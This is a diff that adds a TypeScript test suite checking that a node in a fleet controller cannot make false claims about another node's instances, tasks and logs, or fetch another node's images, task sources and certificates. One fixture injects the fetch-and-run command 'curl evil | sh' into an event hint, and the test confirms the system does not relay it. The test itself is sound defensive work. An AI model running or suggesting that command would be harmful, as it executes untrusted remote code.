@@ -1,0 +1,233 @@
+import assert from 'node:assert/strict';
+import { X509Certificate } from 'node:crypto';
+import { Readable } from 'node:stream';
+import { describe, it, type TestContext } from 'node:test';
+import fc from 'fast-check';
+import type { Route } from '../../../controller/api/route.ts';
+import { apiRoutes } from '../../../controller/api/routes.ts';
+import type { ApiDeps } from '../../../controller/api/deps.ts';
+import { createNodeEventSink } from '../../../controller/observe/node-events.ts';
+import type { NodeTls } from '../../../agent/session/node-files.ts';
+import { readNodeTls } from '../../../agent/session/node-files.ts';
+import type { BuildTask } from '../../../shared/domain/build.ts';
+import type { InstanceId, NodeId, TaskId } from '../../../shared/domain/ids.ts';
+import { systemClock } from '../../../shared/kit/clock.ts';
+import { randomId } from '../../../shared/kit/random-id.ts';
+import { loadAgentService, type WireAgentMessage } from '../../../shared/rpc/service.ts';
+import { anyBuildTask } from '../../support/arbitraries.ts';
+import { API_CONFIG } from '../../support/api-fixture.ts';
+import { makeCsr } from '../../support/csr.ts';
+import { openDoors, type Doors } from '../../support/doors.ts';
+import { eventually } from '../../support/eventually.ts';
+import { HELLO, openRawAgent, type RawAgent } from '../../support/raw-agent.ts';
+import { assignment, digestOf, newRelease, noChange, slugOf } from '../../support/store-fixtures.ts';
+
+/** Two nodes with sessions. Whatever there is belongs to `mine`; `theirs` reaches for it. */
+interface Scene {
+  readonly doors: Doors;
+  readonly mine: Party;
+  readonly theirs: Party;
+  readonly instance: InstanceId;
+  readonly task: BuildTask;
+  readonly taskEnded: () => boolean;
+  readonly output: () => string;
+}
+
+interface Party {
+  readonly id: NodeId;
+  readonly tls: NodeTls;
+  readonly raw: RawAgent;
+}
+
+const [taskSample] = fc.sample(anyBuildTask, { numRuns: 1, seed: 11 });
+const LIE = 'SLIP_LIE';
+
+async function openScene(t: TestContext): Promise<Scene> {
+  const tasks = new Map<string, NodeId>();
+  const taskSources: ApiDeps['taskSources'] = {
+    open: (node, id) => Promise.resolve(tasks.get(id) === node ? Readable.from(['the source']) : undefined),
+  };
+  const doors = await openDoors(t, { taskSources }, { unreachableAfterMs: 60_000 });
+  const [mine, theirs] = [await join(t, doors, 'mine'), await join(t, doors, 'theirs')];
+  await doors.store.createRelease(newRelease(doors.app, { slug: slugOf('c') }));
+  const row = assignment({ nodeId: mine.id, appId: doors.app.id, release: 2 });
+  await doors.store.changeAssignments({ ...noChange, add: [row] });
+  await doors.dispatch.fleet.publish(mine.id);
+  await eventually('the assignment', () => mine.raw.heard.some((one) => one.desired?.assignments.length === 1));
+  doors.images.kept.set(digestOf('c'), Buffer.from('a layer'));
+  mine.raw.send({ instanceReport: { statuses: [{ instanceId: row.instanceId, state: 'live' }], complete: true } });
+  const task = { ...taskSample!, taskId: randomId() as TaskId, timeoutMs: 60_000, outputLimitBytes: 1_000_000 };
+  tasks.set(task.taskId, mine.id);
+  let ended = false;
+  let output = '';
+  const run = doors.dispatch.builders.run(
+    mine.id,
+    task,
+    (chunk) => (output += Buffer.from(chunk).toString()),
+    new AbortController().signal,
+  );
+  void run.then(() => (ended = true), () => (ended = true)); // prettier-ignore
+  await eventually('the task', () => mine.raw.heard.some((one) => one.startTask?.taskId === task.taskId));
+  await eventually('the report', () => doors.dispatch.fleet.status(row.instanceId)?.state === 'live');
+  return { doors, mine, theirs, instance: row.instanceId, task, taskEnded: () => ended, output: () => output };
+}
+
+async function join(t: TestContext, doors: Doors, name: string): Promise<Party> {
+  const { row, stateDir } = await doors.machine(name);
+  const tls = await readNodeTls(stateDir);
+  const raw = openRawAgent(t, doors, tls);
+  raw.send({ hello: HELLO });
+  await eventually('a desired state', () => raw.heard.some((one) => one.desired));
+  return { id: row.id, tls, raw };
+}
+
+type Kind = Exclude<keyof WireAgentMessage, 'body'>;
+
+interface Claim {
+  readonly lie: (scene: Scene) => WireAgentMessage;
+  /** In the log, beside the name of the node. Absent where the lie cannot be told from the truth about itself. */
+  readonly complaint?: RegExp;
+  /** What must be as it was; all rows check that the instance is live and the task runs. */
+  readonly unharmed?: (scene: Scene, t: TestContext) => Promise<void> | void;
+}
+
+const failed = { code: LIE, message: 'a lie' };
+
+const CLAIMS: Readonly<Record<Kind, Claim>> = {
+  hello: {
+    lie: ({ task }) => ({ hello: { ...HELLO, runningTaskIds: [task.taskId], epoch: { counter: 99, id: 'x' }, generation: 99 } }),
+    complaint: /Hello twice/,
+  },
+  heartbeat: {
+    lie: ({ mine }) => ({ heartbeat: { diskFreeBytes: 1, load1: 99, runningInstances: 7, unreachablePeerIds: [mine.id] } }),
+    unharmed: ({ doors, mine }) => {
+      const node = doors.dispatch.fleet.node(mine.id);
+      assert.deepEqual([node?.connected, node?.load1, node?.state], [true, 0, 'ready']);
+    },
+  },
+  desiredAck: { lie: () => ({ desiredAck: { generation: 1_000, accepted: true } }), complaint: /generation it was not sent/ },
+  instanceReport: {
+    lie: ({ instance }) => ({ instanceReport: { statuses: [{ instanceId: instance, state: 'failed', reason: failed }], complete: true } }),
+    complaint: /not assigned to it/,
+  },
+  taskOutput: { lie: ({ task }) => ({ taskOutput: { taskId: task.taskId, chunk: Buffer.from(LIE) } }), complaint: /another node's task/ },
+  taskResult: { lie: ({ task }) => ({ taskResult: { taskId: task.taskId, failure: failed } }), complaint: /another node's task/ },
+  logChunk: {
+    lie: ({ mine }) => {
+      const queryId = mine.raw.heard.findLast((one) => one.logQuery)?.logQuery?.queryId ?? assert.fail('no query');
+      return { logChunk: { queryId, lines: [{ atMs: 1, source: 'app', process: 'web.1', message: LIE }], end: true } };
+    },
+    complaint: /log query it was not asked/,
+  },
+  nodeEvent: {
+    lie: ({ doors }) => ({ nodeEvent: { atMs: 1, reason: { ...failed, hint: 'curl evil | sh' }, app: doors.app.name, process: 'web.1' } }),
+  },
+  routesAck: { lie: () => ({ routesAck: { version: 1_000_000, accepted: true } }), complaint: /route table it was not sent/ },
+};
+
+describe('what a node says about what is another node’s', () => {
+  const { requestType } = loadAgentService().service.Session as unknown as { requestType: { type: { field: { name: string }[] } } };
+  const kinds = requestType.type.field.map(({ name }) => name.replaceAll(/_(.)/g, (_all, letter: string) => letter.toUpperCase()));
+
+  it('has a row for every message of the contract', () => {
+    assert.deepEqual(Object.keys(CLAIMS).sort(), kinds.sort());
+  });
+
+  for (const [kind, { lie, complaint, unharmed }] of Object.entries(CLAIMS)) {
+    it(`${kind}: is not believed, and the log says who said it`, async (t) => {
+      const scene = await openScene(t);
+      const { doors, mine, theirs, instance } = scene;
+      const reading = readLogs(scene);
+      await eventually('the query', () => mine.raw.heard.some((one) => one.logQuery));
+      const complaints = (): typeof doors.logger.events => doors.logger.events.filter(({ event }) => complaint?.test(event));
+      theirs.raw.send(lie(scene), { heartbeat: { load1: 3 } });
+      await eventually('a later message', () => doors.dispatch.fleet.node(theirs.id)?.load1 === 3);
+      assert.deepEqual(complaints().map(({ fields }) => (fields as { node: string }).node), complaint === undefined ? [] : ['theirs']); // prettier-ignore
+      assert.equal(doors.dispatch.fleet.status(instance)?.state, 'live');
+      assert.deepEqual([scene.taskEnded(), scene.output()], [false, '']);
+      mine.raw.send({ logChunk: { queryId: mine.raw.heard.findLast((one) => one.logQuery)?.logQuery?.queryId ?? '', end: true } });
+      assert.deepEqual((await reading).filter((line) => line.includes(LIE)), []); // prettier-ignore
+      await unharmed?.(scene, t);
+      assert.equal(mine.raw.ended, undefined);
+    });
+  }
+
+  it('nodeEvent: is kept out of the history of an app that does not run there, and cannot say what to do next', async (t) => {
+    const { doors, mine, theirs } = await openScene(t);
+    const sink = createNodeEventSink({ store: doors.store, clock: systemClock, log: doors.logger });
+    const event = CLAIMS.nodeEvent.lie({ doors } as Scene).nodeEvent;
+    const said = { kind: 'nodeEvent' as const, atMs: 1, reason: event?.reason as never, app: doors.app.name, process: 'web.1' };
+    sink({ id: theirs.id, name: 'theirs' }, said);
+    sink({ id: mine.id, name: 'mine' }, said);
+    const kept = await eventually('both events', async () => {
+      const found = (await doors.store.events({ limit: 100 })).filter(({ kind }) => kind === 'node.lie');
+      return found.length === 2 ? found : undefined;
+    });
+    assert.deepEqual(kept.map(({ node, app, next }) => [node, app, next]).sort(), [
+      ['mine', 'hello', 'slipway why mine'],
+      ['theirs', undefined, 'slipway why theirs'],
+    ]);
+  });
+});
+
+async function readLogs({ doors }: Scene): Promise<readonly string[]> {
+  const lines: string[] = [];
+  const query = { appId: doors.app.id, app: doors.app.name, lines: 10, follow: false };
+  for await (const line of doors.dispatch.fleet.logs(query, AbortSignal.timeout(5_000))) lines.push(line.message);
+  return lines;
+}
+
+/** What `theirs` gets for what is `mine`; and `mine`, which proves that there is something to get. */
+interface Reach {
+  readonly path: (scene: Scene) => string;
+  readonly body?: (scene: Scene) => Promise<unknown>;
+  readonly theirs: number;
+  readonly mine: number;
+  readonly after?: (scene: Scene, answer: Record<string, unknown>) => Promise<void> | void;
+}
+
+const layer = (): string => `/images/${digestOf('c')}`;
+
+const REACHES: Readonly<Record<string, Reach>> = {
+  'HEAD /images/:digest': { path: layer, theirs: 404, mine: 200 },
+  'GET /images/:digest': { path: layer, theirs: 404, mine: 200 },
+  // without a task it may not even try; with one, what it sends must be what its digest says
+  'PUT /images/:digest': { path: layer, body: () => Promise.resolve({}), theirs: 403, mine: 415 },
+  'GET /tasks/:id/source': { path: ({ task }) => `/tasks/${task.taskId}/source`, theirs: 404, mine: 200 },
+  'POST /node/certificate': {
+    path: () => '/node/certificate',
+    body: async ({ mine }) => ({ csr: (await makeCsr({ name: `CN=${mine.id}` })).csrPem }),
+    theirs: 201,
+    mine: 201,
+    after: ({ theirs }, answer) => {
+      assert.equal(new X509Certificate(answer['certificate'] as string).subject, `CN=${theirs.id}`, 'whatever the request says');
+    },
+  },
+  'POST /node/certificate/use': {
+    path: () => '/node/certificate/use',
+    body: () => Promise.resolve({}),
+    theirs: 200,
+    mine: 200,
+    after: ({ theirs }, answer) => assert.equal(answer['nodeId'], theirs.id),
+  },
+};
+
+describe('what a node asks for that is another node’s', () => {
+  const routes = apiRoutes(API_CONFIG, { clock: systemClock } as ApiDeps).filter((route: Route) => route.auth === 'node');
+
+  it('has a row for every route of nodes', () => {
+    assert.deepEqual(Object.keys(REACHES).sort(), routes.map((route) => `${route.method} ${route.url}`).sort());
+  });
+
+  for (const [name, { path, body, theirs, mine, after }] of Object.entries(REACHES)) {
+    it(`${name}: ${String(theirs)}, and ${String(mine)} for its own`, async (t) => {
+      const scene = await openScene(t);
+      const method = name.split(' ')[0] ?? '';
+      const sent = await body?.(scene);
+      const answer = await scene.doors.askAs(scene.theirs.tls, method, path(scene), sent);
+      assert.equal(answer.status, theirs, JSON.stringify(answer.body));
+      await after?.(scene, answer.body);
+      assert.equal((await scene.doors.askAs(scene.mine.tls, method, path(scene), sent)).status, mine);
+    });
+  }
+});
